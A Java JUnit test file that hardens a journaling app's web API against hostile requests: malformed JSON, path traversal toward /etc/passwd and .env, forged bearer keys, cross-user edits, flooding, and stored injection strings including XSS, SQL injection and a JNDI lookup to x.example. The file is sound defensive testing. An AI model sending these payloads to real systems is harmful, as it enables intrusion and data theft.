package app.smallwins.simulator.web;

import static app.smallwins.simulator.web.WebDesk.anybody;
import static app.smallwins.simulator.web.WebDesk.json;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever somebody sends to whatever address gets its clear answer, and changes nothing. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputTest {

    private static final String NO_WIN = "20260101T000000000-0123456789abcdef";
    private static final byte[] BROKEN_UTF_8 = {'{', '"', 't', 'e', 'x', 't', '"', ':', '"', (byte) 0xc3, '(', '"',
        '}'};

    private WebDesk desk;
    private String anna;
    private String key;
    private String win;

    @BeforeAll
    void start() {
        desk = new WebDesk();
        anna = anybody();
        key = desk.paired(anna);
        win = json(desk.tell(key, "{\"text\": \"I fed the cat\"}")).at("/id").asText();
    }

    @AfterAll
    void end() {
        desk.close();
    }

    /** A request, with its body. */
    record Bad(String method, String path, String type, byte[] body) {

        static Bad of(String address, String type, byte[] body) {
            var parts = address.split(" ");
            return new Bad(parts[0], parts[1], type, body);
        }

        @Override
        public String toString() {
            return method + ' ' + path + ' ' + type + ' ' + body.length;
        }
    }

    static Stream<Bad> bad() {
        var addresses = List.of("POST /v1/pair", "POST /v1/wins", "PATCH /v1/wins/" + NO_WIN, "POST /v1/shares",
                "DELETE /v1/everything", "POST /v1/import");
        var bodies = new ArrayList<byte[]>(List.of(BROKEN_UTF_8, new byte[1024 * 1024], utf8("[".repeat(50_000)),
                utf8("{\"text\": \"a\", \"text\": \"b\"}"), utf8("null"), utf8("[]"), utf8("\"text\""), utf8("{"),
                utf8("{\"text\": {\"a\": 1}, \"code\": [], \"device\": 1, \"win\": {}, \"confirm\": true}"),
                utf8("{\"text\": 1e9999}"), utf8("<script>alert(1)</script>")));
        return addresses.stream()
                .flatMap(address -> bodies.stream().map(body -> Bad.of(address, "application/json", body)))
                .filter(bad -> !(bad.path().equals("/v1/shares") && new String(bad.body(), StandardCharsets.UTF_8)
                        .contains("1e9999")));
    }

    @ParameterizedTest
    @MethodSource("bad")
    void shouldRefuseWhatMakesNoSenseAtEveryAddressThatTakesABody(Bad bad) {
        var before = desk.items();

        var answer = desk.request(bad.method(), bad.path(), Map.of("Content-Type", bad.type(), "Authorization",
                "Bearer " + key), bad.body());

        assertThat(answer.statusCode()).isBetween(400, 499);
        assertThat(answer.headers().firstValue("content-type")).contains("application/problem+json");
        assertThat(answer.body()).doesNotContain("Exception", "java", "script", "app.smallwins");
        assertThat(desk.items()).isEqualTo(before);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/v1/wins/../everything", "/v1/wins/%2e%2e/%2e%2e/etc/passwd", "/v1/..;/wins", "/v1//wins",
        "/v1/wins/%00", "/v1/wins/" + NO_WIN + "%2f..", "/jar/../../etc/passwd", "/jar/days/../../x", "/v1/wins/%zz",
        "/.env", "/.git/config", "/wp-login.php", "/v1/devices/../../etc"})
    void shouldFindNothingWherePathsClimb(String path) throws IOException {
        var before = desk.items();

        for (var method : List.of("GET", "DELETE", "POST", "PATCH")) {
            assertThat(raw(method, path)).as(method).matches("HTTP/1.1 4[0-9][0-9].*");
        }

        assertThat(desk.items()).isEqualTo(before);
    }

    @ParameterizedTest
    @ValueSource(strings = {"GET /v1/wins", "GET /v1/recap", "GET /v1/jar/draw", "GET /v1/devices", "GET /v1/export",
        "GET /v1/shares", "GET /v1/cheers", "POST /v1/join", "POST /v1/import", "DELETE /v1/everything",
        "PATCH /v1/wins/" + NO_WIN, "DELETE /v1/wins/" + NO_WIN, "DELETE /v1/devices/0123456789abcdef",
        "POST /v1/shares",
        "DELETE /v1/shares/0123456789abcdef"})
    void shouldOpenNothingToAWrongKey(String address) {
        var parts = address.split(" ");
        var wrong = List.of("", "Bearer", "Bearer x", "Basic " + key,
                "Bearer " + key.substring(0, key.length() - 1) + '!',
                "Bearer " + key.replaceFirst("_.{43}$", "_" + "A".repeat(43)),
                "Bearer " + key + ' ' + key, "Bearer sw_" + "0".repeat(32) + key.substring(35));
        var before = desk.items();

        assertThat(wrong).allSatisfy(shown -> assertThat(desk.request(parts[0], parts[1],
                Map.of("Content-Type", "application/json", "Authorization", shown),
                "{\"confirm\": \"delete everything\"}")
                .statusCode()).isEqualTo(401));
        assertThat(desk.items()).isEqualTo(before);
    }

    @ParameterizedTest
    @ValueSource(strings = {"PATCH /v1/wins/", "DELETE /v1/wins/"})
    void shouldNotTouchWhatIsAnothers(String address) {
        var stranger = desk.paired(anybody());
        var parts = address.split(" ");

        var answer = desk.sent(parts[0], stranger, parts[1] + win, "{\"text\": \"mine now\"}");

        assertThat(answer.statusCode()).isEqualTo(404);
        assertThat(json(desk.get(key, "/v1/wins")).at("/wins").findValuesAsText("text")).contains("I fed the cat")
                .doesNotContain("mine now");
        assertThat(desk.sent("POST", stranger, "/v1/shares", "{\"win\": \"" + win + "\"}").statusCode())
                .isEqualTo(404);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/", "/jar", "/jar/back", "/jar/one", "/jar/trophies", "/jar/threads", "/jar/lines",
        "/jar/settings", "/jar/export?format=json", "/jar/everything", "/jar/sign-out", "/jar/join", "/jar/keep", "/s",
        "/s/cheer", "/v1/wins", "/v1/wins?text=I+fed+the+cat", "/v1/recap?period=all", "/v1/jar/draw", "/v1/devices",
        "/v1/everything?confirm=delete+everything", "/v1/export", "/v1/import", "/v1/join", "/v1/pair?code=BCDF-GHJK",
        "/v1/shares", "/v1/cheers", "/v1/openapi.json", "/v1/export.schema.json", "/health"})
    void shouldChangeNothingForWhoOnlyLooks(String path) {
        var before = desk.items();
        var cookie = "__Host-small-wins=" + key;

        for (var method : List.of("GET", "HEAD", "OPTIONS")) {
            for (var agent : List.of("facebookexternalhit/1.1", "Slackbot-LinkExpanding 1.0", "WhatsApp/2.23")) {
                var answer = desk.request(method, path, Map.of("User-Agent", agent, "Authorization", "Bearer " + key,
                        "Cookie", cookie), "");
                assertThat(answer.statusCode()).as(method).isLessThan(500);
            }
        }

        assertThat(desk.items()).isEqualTo(before);
    }

    @Test
    void shouldKeepScriptsAndExpressionsAsTheWordsTheyAre() {
        var odd = List.of("I typed <script>alert(1)</script>", "I typed #day = :x OR attribute_exists(pk)",
                "I typed '; DROP TABLE wins; --",
                "I typed ${jndi:ldap://x.example/a}", "I typed {deed} and {{7*7}}", "I typed jar#x win#y",
                "I typed </textarea><img src=x onerror=alert(1)>");
        var writer = desk.paired(anybody());

        odd.forEach(words -> assertThat(desk.tell(writer, WebDesk.JSON.createObjectNode().put("text", words).toString())
                .statusCode()).as(words).isEqualTo(201));

        assertThat(json(desk.get(writer, "/v1/wins")).at("/wins").findValuesAsText("text"))
                .containsExactlyInAnyOrderElementsOf(odd);
        var page = desk.request("GET", "/jar", Map.of("Cookie", "__Host-small-wins=" + writer), "").body();
        assertThat(page).contains("&lt;script&gt;").doesNotContain("<script", "<img src=x", "49 and");
    }

    @Test
    void shouldSendWhoeverIsTooFastAwayForAWhile() {
        var fast = desk.paired(anybody());
        var answers = Stream.generate(() -> desk.tell(fast, "{\"text\": \"I fed the cat\"}")).limit(125).toList();

        var stopped = answers.getLast();

        assertThat(stopped.statusCode()).isEqualTo(429);
        assertThat(WebDesk.problem(stopped)).contains("too-fast");
        assertThat(stopped.headers().firstValue("retry-after").map(Integer::parseInt)).hasValueSatisfying(
                seconds -> assertThat(seconds).isBetween(1, 600));
        assertThat(json(desk.get(fast, "/v1/recap?period=all")).at("/wins").asLong())
                .isEqualTo(answers.stream().filter(answer -> answer.statusCode() == 201).count());
        assertThat(desk.tell(key, "{\"text\": \"I made tea\"}").statusCode()).isEqualTo(201);
    }

    /** Clients tidy paths up; whoever means harm does not. */
    private String raw(String method, String path) throws IOException {
        try (var socket = new Socket(desk.address().getHost(), desk.address().getPort())) {
            socket.getOutputStream()
                    .write(utf8(method + ' ' + path + " HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + key
                            + "\r\nContent-Type: application/json\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8).lines()
                    .findFirst()
                    .orElse("HTTP/1.1 400 closed");
        }
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
